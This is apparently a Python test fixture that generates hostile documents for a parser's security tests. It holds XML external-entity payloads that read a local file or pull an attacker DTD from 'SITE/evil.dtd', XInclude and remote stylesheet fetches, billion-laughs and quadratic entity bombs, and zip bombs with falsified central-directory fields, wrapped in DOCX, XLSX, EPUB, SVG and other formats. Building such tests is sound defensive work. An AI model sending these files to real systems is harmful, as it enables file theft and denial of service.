"""The same attacks in every format that is made of XML, and archives that lie about what is in them."""

# ruff: noqa: E501 - markup in literals is left on its line

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from tests.harness.hostile_files import CONTENT_TYPES, GOOD, SECRET, WORD, word_paragraph, zipped

__all__ = ["ATTACKS", "FORMATS", "archives", "attacked"]

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OPEN = "urn:oasis:names:tc:opendocument:xmlns:"
XI = "http://www.w3.org/2001/XInclude"

# Before the root element, and within it. FILE and SITE are addresses of the attacker's choice.
ATTACKS = {
    "entity": ('<!DOCTYPE d [<!ENTITY x SYSTEM "FILE">]>', "&x;"),
    "quoted": ('<!DOCTYPE d SYSTEM "a>[" [<!ENTITY x SYSTEM "FILE">]>', "&x;"),
    "parameter": ('<!DOCTYPE d [<!ENTITY % p SYSTEM "SITE/evil.dtd"> %p;]>', "&x;"),
    "outside": ('<!DOCTYPE d SYSTEM "SITE/evil.dtd">', "&x;"),
    "near": ('<!DOCTYPE d SYSTEM "FILE.dtd">', "&x;"),
    "include": ("", f'<xi:include xmlns:xi="{XI}" href="FILE" parse="text"/>'),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="SITE/evil.xsl"?>', ""),
    "picture": ("", '<svg xmlns="http://www.w3.org/2000/svg"><image href="SITE/x.svg"/><text>seen</text></svg>'),
    "laughs": (
        '<!DOCTYPE d [<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
        + "]>",
        "&l10;",
    ),
    "quadratic": (f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
}


def _word(prolog: str, inside: str) -> bytes:
    body = f'{prolog}<w:document xmlns:w="{WORD}"><w:body>{word_paragraph(GOOD)}{word_paragraph(inside)}</w:body></w:document>'
    return _office("word/document.xml", body)


def _word_core(prolog: str, inside: str) -> bytes:
    core = f'{prolog}<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{inside}</dc:title></c>'
    relations = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="a" Type="x/officeDocument" Target="word/document.xml"/>'
        '<Relationship Id="b" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>'
    )
    body = f'<w:document xmlns:w="{WORD}"><w:body>{word_paragraph(GOOD)}</w:body></w:document>'
    return _office("word/document.xml", body, {"_rels/.rels": relations, "docProps/core.xml": core})


def _slides(prolog: str, inside: str) -> bytes:
    p, a = (f"http://schemas.openxmlformats.org/{kind}/2006/main" for kind in ("presentationml", "drawingml"))
    show = f'<p:presentation xmlns:p="{p}" xmlns:r="{OFFICE}"><p:sldIdLst><p:sldId id="1" r:id="r1"/></p:sldIdLst></p:presentation>'
    slide = (
        f'{prolog}<p:sld xmlns:p="{p}" xmlns:a="{a}"><p:sp><p:txBody><a:p><a:r><a:t>{GOOD}</a:t></a:r></a:p>'
        f"<a:p><a:r><a:t>{inside}</a:t></a:r></a:p></p:txBody></p:sp></p:sld>"
    )
    relations = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="x/slide" Target="slides/s.xml"/></Relationships>'
    )
    return _office(
        "ppt/presentation.xml", show, {"ppt/_rels/presentation.xml.rels": relations, "ppt/slides/s.xml": slide}
    )


def _sheet(prolog: str, inside: str) -> bytes:
    s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = f'<workbook xmlns="{s}" xmlns:r="{OFFICE}"><sheets><sheet name="T" r:id="r1"/></sheets></workbook>'
    cells = "".join(f'<c t="s"><v>{n}</v></c>' for n in (0, 1))
    relations = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="x/worksheet" Target="s.xml"/>'
        '<Relationship Id="r2" Type="x/sharedStrings" Target="strings.xml"/></Relationships>'
    )
    strings = f'{prolog}<sst xmlns="{s}"><si><t>{GOOD}</t></si><si><t>{inside}</t></si></sst>'
    sheet = f'<worksheet xmlns="{s}"><sheetData><row>{cells}</row></sheetData></worksheet>'
    more = {"xl/_rels/workbook.xml.rels": relations, "xl/s.xml": sheet, "xl/strings.xml": strings}
    return _office("xl/workbook.xml", book, more)


def _office(main: str, body: str, more: dict[str, str] | None = None) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, main: body, **(more or {})}
    return zipped({name: f'<?xml version="1.0"?>{text}'.encode() for name, text in parts.items()})


def _text(prolog: str, inside: str) -> bytes:
    body = f"<text:p>{GOOD}</text:p><text:p>{inside}</text:p>"
    content = f'<?xml version="1.0"?>{prolog}<o:c xmlns:o="{OPEN}office:1.0" xmlns:text="{OPEN}text:1.0"><o:body><o:text>{body}</o:text></o:body></o:c>'
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def _book(part: str) -> Callable[[str, str], bytes]:
    def made(prolog: str, inside: str) -> bytes:
        before = {name: prolog if name == part else "" for name in ("container", "package", "chapter")}
        within = {name: inside if name == part else "" for name in before}
        files = {
            "META-INF/container.xml": f'{before["container"]}<container><rootfiles><rootfile full-path="b.opf"/></rootfiles>{within["container"]}</container>',
            "b.opf": f"{before['package']}<package><metadata><title>{within['package']}</title></metadata><manifest>"
            '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
            "a.xhtml": f"{before['chapter']}<html><body><p>{GOOD}</p><p>{within['chapter']}</p></body></html>",
        }
        return zipped({name: f'<?xml version="1.0"?>{text}'.encode() for name, text in files.items()})

    return made


def _plain(template: str) -> Callable[[str, str], bytes]:
    def made(prolog: str, inside: str) -> bytes:
        return template.replace("PROLOG", prolog).replace("GOOD", GOOD).replace("INSIDE", inside).encode()

    return made


FORMATS: dict[str, Callable[[str, str], bytes]] = {
    "body.docx": _word,
    "core.docx": _word_core,
    "slide.pptx": _slides,
    "strings.xlsx": _sheet,
    "text.odt": _text,
    "container.epub": _book("container"),
    "package.epub": _book("package"),
    "chapter.epub": _book("chapter"),
    "plain.xml": _plain("<?xml version='1.0'?>PROLOG<d><p>GOOD</p><p>INSIDE</p></d>"),
    "feed.rss": _plain(
        "<?xml version='1.0'?>PROLOG<rss><channel><title>T</title><item><description>GOOD INSIDE</description></item></channel></rss>"
    ),
    "picture.svg": _plain(
        "<?xml version='1.0'?>PROLOG<svg xmlns='http://www.w3.org/2000/svg'><text>GOOD</text><text>INSIDE</text></svg>"
    ),
    "page.xhtml": _plain("<?xml version='1.0'?>PROLOG<html><body><p>GOOD</p><p>INSIDE</p></body></html>"),
    "page.html": _plain("<!DOCTYPE html><html><body><p>GOOD</p><svg>PROLOG<text>INSIDE</text></svg></body></html>"),
}


def attacked(name: str, attack: str, secret_file: str, site: str) -> bytes:
    """Return a file of a format that carries an attack; both are named by their keys."""
    prolog, inside = (part.replace("FILE", secret_file).replace("SITE", site) for part in ATTACKS[attack])
    return FORMATS[name](prolog, inside)


@cache
def archives() -> dict[str, bytes]:
    """Return DOCX files, by name, whose directory or packing hides a bomb."""
    bomb = f'<w:document xmlns:w="{WORD}"><w:body>{word_paragraph(" " * 80_000_000)}</w:body></w:document>'.encode()
    document = "word/document.xml"
    whole = zipped({"[Content_Types].xml": CONTENT_TYPES.encode(), document: bomb})
    many = {f"customXml/{number}.xml": b"" for number in range(25_000)}
    return {
        "small.docx": _patched(whole, 24, struct.pack("<I", 100)),
        "checked.docx": _patched(whole, 16, struct.pack("<II", zlib.crc32(bomb[:100]), 0)[:4], size=100),
        "packed-size.docx": _patched(whole, 20, struct.pack("<I", 0xFFFFFF00)),
        "bzip2.docx": _packed(zipfile.ZIP_BZIP2, bomb),
        "lzma.docx": _packed(zipfile.ZIP_LZMA, bomb[:20_000_000]),
        "entries.docx": zipped({"[Content_Types].xml": CONTENT_TYPES.encode(), document: bomb[:100], **many}),
    }


def _patched(data: bytes, offset: int, value: bytes, *, size: int | None = None) -> bytes:
    """Overwrite a field of the last entry in the central directory, and the size where one is given."""
    changed = bytearray(data)
    at = changed.rfind(b"PK\x01\x02")
    changed[at + offset : at + offset + len(value)] = value
    if size is not None:
        changed[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(changed)


def _packed(method: int, bomb: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", bomb)
    return stream.getvalue()


def planted() -> str:
    """Return a DTD that declares the entity of the attacks."""
    return f'<!ENTITY x "{SECRET}">'
